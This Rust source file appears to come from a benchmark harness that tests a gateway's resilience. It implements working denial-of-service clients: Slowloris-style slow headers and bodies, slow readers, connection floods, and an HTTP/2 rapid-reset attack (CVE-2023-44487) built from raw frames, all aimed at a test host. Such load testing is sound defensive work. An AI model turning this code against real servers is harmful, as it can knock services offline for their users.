//! The attacks: clients that cost others time or memory, by being slow or by being many.
//!
//! All have a rate, the floods too. The attackers share their core with the client that measures: one that took all of
//! it would measure itself.

use std::{
    io::{self, Read, Write},
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};

use socket2::{Domain, Socket, Type};

use crate::{Result, process::pause};

/// How far behind its rate an attack may fall and still catch up. What it misses beyond is not made up for: it would
/// come all at once, and be another attack.
const BEHIND: Duration = Duration::from_millis(10);

pub struct Attack {
    pub name: &'static str,
    /// How many connections it has open all the time.
    pub held: usize,
    /// How often it acts in a second, over all connections.
    pub rate: u32,
    /// What a connection sends at first.
    begin: &'static str,
    /// What one of those that are held does, in turn. Where none are, each act opens a connection and closes it, and
    /// every other one does this between. An error is that the connection has ended.
    act: fn(&mut Line) -> io::Result<()>,
}

/// What came of an attack.
pub struct Toll {
    /// How often it acted.
    pub acts: usize,
    /// How many of its connections the gateway ended.
    pub ended: usize,
}

/// A connection of an attacker's.
struct Line {
    stream: TcpStream,
    /// How many requests were taken back on it.
    resets: u32,
}

pub const ATTACKS: [Attack; 5] = [
    Attack {
        name: "slow headers",
        held: 2_000,
        rate: 2_000,
        begin: "GET /200 HTTP/1.1\r\nHost: bench.example\r\nX-Slow: ",
        act: Line::drip,
    },
    Attack {
        name: "slow bodies",
        held: 2_000,
        rate: 2_000,
        begin: "POST /200 HTTP/1.1\r\nHost: bench.example\r\nContent-Length: 1000000\r\n\r\n",
        act: Line::drip,
    },
    Attack {
        name: "slow readers",
        held: 500,
        rate: 500,
        begin: "GET /1000000 HTTP/1.1\r\nHost: bench.example\r\n\r\n",
        act: Line::sip,
    },
    Attack { name: "connections", held: 0, rate: 1_000, begin: "", act: Line::drip },
    Attack {
        name: "rapid reset",
        held: 10,
        rate: 2_000,
        // The preface and empty SETTINGS.
        begin: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
        act: Line::reset,
    },
];

// === impl Attack ===

impl Attack {
    /// Opens what it holds, says so, and goes on for some seconds.
    pub fn run(&self, address: SocketAddr, seconds: u32, in_place: impl FnOnce() -> io::Result<()>) -> Result<Toll> {
        let mut held = (0..self.held).map(|_| self.open(address)).collect::<io::Result<Vec<_>>>()?;
        in_place()?;
        let mut toll = Toll { acts: 0, ended: 0 };
        let start = Instant::now();
        let mut due = start;
        while start.elapsed() < Duration::from_secs(seconds.into()) {
            let now = Instant::now();
            pause(due.saturating_duration_since(now));
            due = (due + Duration::from_secs(1) / self.rate).max(now - BEHIND);
            if held.is_empty() {
                let mut line = self.open(address)?;
                if toll.acts % 2 == 1 {
                    (self.act)(&mut line)?;
                }
            } else {
                let line = toll.acts % held.len();
                if (self.act)(&mut held[line]).is_err() {
                    toll.ended += 1;
                    held[line] = self.open(address)?;
                }
            }
            toll.acts += 1;
        }
        Ok(toll)
    }

    fn open(&self, address: SocketAddr) -> io::Result<Line> {
        let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
        // Otherwise the kernel would read for a slow reader.
        socket.set_recv_buffer_size(4096)?;
        socket.connect(&address.into())?;
        socket.set_nonblocking(true)?;
        let mut stream = TcpStream::from(socket);
        stream.write_all(self.begin.as_bytes())?;
        Ok(Line { stream, resets: 0 })
    }
}

// === impl Line ===

impl Line {
    /// Sends a byte of what could go on for ever.
    fn drip(&mut self) -> io::Result<()> {
        self.stream.write_all(b"x")
    }

    /// Reads a few bytes, if there are any.
    fn sip(&mut self) -> io::Result<()> {
        match self.stream.read(&mut [0; 64]) {
            Ok(0) => Err(io::ErrorKind::UnexpectedEof.into()),
            Err(error) if error.kind() != io::ErrorKind::WouldBlock => Err(error),
            _ => Ok(()),
        }
    }

    /// Sends a request over HTTP/2 and takes it back at once (CVE-2023-44487).
    fn reset(&mut self) -> io::Result<()> {
        self.sip()?;
        // `GET`, `http`, `/`, and the authority as a literal without indexing.
        let fields = b"\x82\x86\x84\0\x0a:authority\x0dbench.example";
        let stream = (self.resets * 2 + 1).to_be_bytes();
        let headers = [&[0, 0, fields.len() as u8, 1, 5], &stream[..], fields].concat();
        let reset = [&[0, 0, 4, 3, 0], &stream[..], &[0, 0, 0, 8]].concat();
        self.resets += 1;
        self.stream.write_all(&[headers, reset].concat())
    }
}
